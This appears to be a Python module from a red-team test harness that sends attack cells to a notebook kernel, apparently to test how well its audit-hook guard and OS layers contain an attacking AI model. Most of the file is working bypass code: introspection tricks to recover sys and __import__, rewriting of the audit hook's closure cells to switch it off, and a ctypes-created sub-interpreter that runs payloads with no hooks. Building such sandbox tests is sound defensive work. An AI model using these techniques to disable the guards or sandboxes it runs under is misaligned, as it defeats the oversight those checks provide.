"""How an attack reaches the kernel: one cell per payload, in one of two modes.

``guard`` mode is an attacker who does not bother disarming anything: the payload runs in the cell's
own interpreter, behind the in-kernel guard, but reaches modules the way an attacker would under
*any* profile (strict included): ``sys`` from ``().__class__.__base__.__subclasses__()`` (the
``os._wrap_close`` globals), already-loaded modules from ``sys.modules``, others through the real
``__import__`` recovered from the guard's own closure. Whatever the payload achieves here, the guard
and the OS layers together let through.

``os`` mode first switches the guard off (the guard is documented as *not* a boundary), in plain Python
that is the same on every CPython the server supports (3.11-3.13): (1) empty the event sets of the guard
module, which stays reachable as ``sys.modules['_kernelexec_guard']`` (after this the hook lets ``gc``
introspection through); (2) take the audit hook's code from a refusal's traceback, its function from
``gc.get_referrers`` and rewrite its closure cells (``deny_* -> False``, ``file_io -> 'all'``) through
``cell.cell_contents``. Then it creates a sub-interpreter (audit hooks are per interpreter, so the new
one has none) through the *public* C API, ``Py_NewInterpreter`` / ``PyThreadState_Swap`` /
``PyRun_SimpleString`` reached with ctypes (no private ``_xxsubinterpreters``/``_interpreters`` module,
which differ per version), and runs the payload there with plain ``import``. Whatever the payload
achieves here, the OS layers alone let through. Payloads that fork run in the main interpreter instead
(``P['_main']``), where the rewritten cells already switched the hook off. A kernel where this cannot be
done answers ``DISARM FAILED``, which fails the test: os mode that silently does not run is no evidence.

The helpers are installed once per kernel (``install_cell``, into ``builtins``, so ``%reset -f`` keeps
them); each attack is then one short cell (``attack_cell``). Each payload is Python source that may use ``M(name)`` (a module), ``P`` (the attack's parameters)
and the helpers in ``LIB``, and binds ``out`` to what it obtained. The cell's ``result`` is
``"completed: <repr(out)>"`` or ``"stopped: <exception>"`` (prefixed ``[no hooks]`` in os mode). ``repr(out)`` is cut
at 16,000 characters, marked `` [cut]`` (the sub-interpreter's answer goes through a pipe read only after it wrote: under its 64 KiB);
past the answer's ``result_chars`` the judges read the whole from ``result_file`` (common.attack). At 4,000, a
``/proc`` listing on a busy machine was cut before the server's line, and its judge judged nothing.
"""

from __future__ import annotations

LIB = r'''
def libc():
    return M('ctypes').CDLL(None, use_errno=True)

def check(rc, what):
    if rc == -1:
        e = M('ctypes').get_errno()
        raise OSError(e, M('os').strerror(e) + ' [' + what + ']')
    return rc

def session_dir():
    return P['session_dir']
'''

_FIND_SYS = r'''
    sys_ = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['sys']
    bi = sys_.modules['builtins']
    imp = bi.__import__
    for cell in (getattr(imp, '__closure__', None) or ()):
        try:
            value = cell.cell_contents
        except ValueError:
            continue
        if getattr(value, '__name__', '') == '__import__' and value is not imp:
            imp = value
    def M(name):
        m = sys_.modules.get(name)
        if m is None:
            sys_.modules.pop(name, None)
            imp(name)
            m = sys_.modules[name]
        return m
'''

# what a payload obtained, as its answer says it: ``repr(out)`` cut at 16,000 characters and marked (see above)
_OUT = "(lambda r: r[:16000] + (' [cut]' if len(r) > 16000 else ''))(repr(ns.get('out')))"

GUARD_TEMPLATE = r'''
def __kxrt_attack(PAYLOAD, P):
''' + _FIND_SYS + r'''
    ns = {'M': M, 'P': P, '__builtins__': bi, '__name__': '__main__'}
    try:
        exec(PAYLOAD, ns)
        return 'completed: ' + ''' + _OUT + r'''
    except BaseException as e:
        return 'stopped: %s: %s' % (type(e).__name__, str(e)[:600])
__builtins__._kxrt_guard = __kxrt_attack
del __kxrt_attack
'''

SUB_SOURCE = r'''
import importlib as _il, builtins as _b, ast as _ast, os as _os
P = _ast.literal_eval(P)
ns = {'M': _il.import_module, 'P': P, '__builtins__': _b, '__name__': '__main__'}
try:
    exec(PAYLOAD, ns)
    r = 'completed: ' + ''' + _OUT + r'''
except BaseException as e:
    r = 'stopped: %s: %s' % (type(e).__name__, str(e)[:600])
_os.write(FD, ('[no hooks] ' + r).encode())
'''

OS_TEMPLATE = r'''
def __kxrt_attack(PAYLOAD, P, SUB):
''' + _FIND_SYS + r'''
    how = []
    if getattr(sys_, '_kxrt_disarmed', None) is not None:
        how.append('already')
    # (0) a refusal's traceback holds the audit hook's frame (taken before (1) makes the hook refuse nothing)
    # (a write outside, or when an earlier cell switched the file checks off, a ctypes read: both refused by it)
    frames, refused = [], False
    for probe in (lambda: bi.open('/kxrt-disarm-probe/x', 'w'), lambda: M('ctypes').string_at(id(frames), 1)):
        try:
            probe()
        except BaseException as e:
            refused = refused or type(e).__name__ == 'PolicyError'
            tb = e.__traceback__
            while tb is not None:
                frames.append(tb.tb_frame)
                tb = tb.tb_next
        if any(f.f_code.co_name == 'audit' for f in frames):
            break
    # (1) the guard module is still in sys.modules: empty its event sets (gc introspection passes after this)
    g = sys_.modules.get('_kernelexec_guard')
    if g is not None:
        for k in ('_TAMPER_EVENTS', '_PROCESS_EVENTS', '_NETWORK_EVENTS', '_READ_EVENTS', '_WRITE_EVENTS', '_TWO_PATH_EVENTS'):
            if hasattr(g, k):
                setattr(g, k, frozenset())
        g._norm = lambda p: None
        how.append('globals')
    # (2) the audit hook itself: its code from the refusal's traceback (0), its function from gc, its closure cells
    # rewritten (deny_* -> False, file_io -> 'all'); plain Python, the same on every version
    try:
        codes = [f.f_code for f in frames if f.f_code.co_name == 'audit']
        if codes:
            fns = [o for o in M('gc').get_referrers(codes[0]) if getattr(o, '__code__', None) is codes[0]]
            if not fns:
                raise LookupError('no function holds the audit hook code')
            for fn in fns:
                cells = dict(zip(fn.__code__.co_freevars, fn.__closure__ or ()))
                for name in ('deny_process', 'deny_network', 'deny_tamper'):
                    if name in cells:
                        cells[name].cell_contents = False
                if 'check_path' in cells:
                    cp = cells['check_path'].cell_contents
                    inner = dict(zip(cp.__code__.co_freevars, cp.__closure__ or ()))
                    if 'file_io' in inner:
                        inner['file_io'].cell_contents = 'all'
            how.append('cells')
            sys_._kxrt_disarmed = True
        elif 'already' not in how and not refused:
            how.append('no hook refused the probe')
        elif 'already' not in how:
            how.append('a refusal without the hook in its traceback')
    except BaseException as e:
        how.append('cells failed: %r' % (e,))
    armed = not ({'cells', 'already', 'no hook refused the probe'} & set(how))  # (a hook that refuses neither probe stops nothing here)
    if armed:  # a hook that still refuses: neither the main interpreter nor ctypes can be used
        return 'DISARM FAILED (%s): the main interpreter still has its hook' % ', '.join(how)
    if P.get('_main'):  # fork-like payloads: CPython refuses fork in sub-interpreters, so run here
        ns = {'M': M, 'P': P, '__builtins__': bi, '__name__': '__main__'}
        try:
            exec(PAYLOAD, ns)
            return '[hook disarmed] completed: ' + ''' + _OUT + r'''
        except BaseException as e:
            return '[hook disarmed] stopped: %s: %s' % (type(e).__name__, str(e)[:600])
    # (3) a sub-interpreter through the public C API (Py_NewInterpreter, PyThreadState_Swap, PyRun_SimpleString,
    # the same on 3.11-3.13): one per kernel, kept (Py_EndInterpreter leaves no thread state for ctypes to
    # return to); the answer comes back through a pipe. No Python work runs between the swaps, and a long
    # switch interval keeps the GIL from being handed over while the main frame runs with the sub's state.
    try:
        os_ = M('os')
        ct = M('ctypes')
        kept = getattr(sys_, '_kxrt_interp', None)
        if kept is None:
            api = ct.pythonapi
            api.PyThreadState_Get.restype = ct.c_void_p
            api.Py_NewInterpreter.restype = ct.c_void_p
            api.PyThreadState_Swap.restype = ct.c_void_p
            api.PyThreadState_Swap.argtypes = [ct.c_void_p]
            api.PyRun_SimpleString.argtypes = [ct.c_char_p]
            api.PyRun_SimpleString.restype = ct.c_int
            r, w = os_.pipe()
            os_.set_blocking(r, False)
            kept = sys_._kxrt_interp = [api, None, r, w]
            # at exit, 3.11/3.12 abort on a live sub-interpreter ("remaining subinterpreters"): leave first
            M('atexit').register(lambda: (sys_.stdout.flush(), sys_.stderr.flush(), os_._exit(0)))
        api, sub, r, w = kept
        source = ('FD = %d\nPAYLOAD = %r\nP = %r\n' % (w, PAYLOAD, repr(P)) + SUB).encode()
        old = sys_.getswitchinterval()
        sys_.setswitchinterval(1000.0)
        try:
            main = api.PyThreadState_Get()
            if sub is None:
                sub = kept[1] = api.Py_NewInterpreter()  # (now the current thread state)
                if not sub:
                    api.PyThreadState_Swap(main)
                    raise RuntimeError('Py_NewInterpreter failed')
            else:
                api.PyThreadState_Swap(sub)
            rc = api.PyRun_SimpleString(source)
            api.PyThreadState_Swap(main)
        finally:
            sys_.setswitchinterval(old)
    except BaseException as e:
        return 'DISARM FAILED (%s): no sub-interpreter: %s: %s' % (', '.join(how), type(e).__name__, e)
    chunks = []
    while True:
        try:
            chunk = os_.read(r, 65536)
        except BlockingIOError:
            break
        if not chunk:
            break
        chunks.append(chunk)
    if not chunks:
        return '[no hooks] stopped: the sub-interpreter wrote no answer (PyRun_SimpleString returned %d)' % rc
    return b''.join(chunks).decode(errors='replace')
__builtins__._kxrt_os = lambda PAYLOAD, P, _f=__kxrt_attack: _f(PAYLOAD, P, __KXRT_SUB__)
del __kxrt_attack
'''


NOT_INSTALLED = "KXRT: helpers not installed in this kernel"


def install_cell(mode: str) -> str:
    """Defines the attack helper for ``mode`` in ``builtins`` (survives ``%reset -f``, not a restart).

    Sent once per kernel, so that the notebook the server keeps rewriting does not grow by the
    whole prelude on every attack."""
    if mode == "guard":
        return GUARD_TEMPLATE
    if mode == "os":
        return OS_TEMPLATE.replace("__KXRT_SUB__", repr(SUB_SOURCE))
    raise ValueError(mode)


def attack_cell(payload: str, params: dict, mode: str) -> str:
    """The cell an attacking model would send for ``payload`` in ``mode`` ("guard" or "os")."""
    source = LIB + "\n" + payload
    return (
        f"_kxrt = getattr(__builtins__, '_kxrt_{mode}', None)\n"
        f"result = {NOT_INSTALLED!r} if _kxrt is None else _kxrt({source!r}, {params!r})\n"
        "globals().pop('_kxrt', None)"
    )
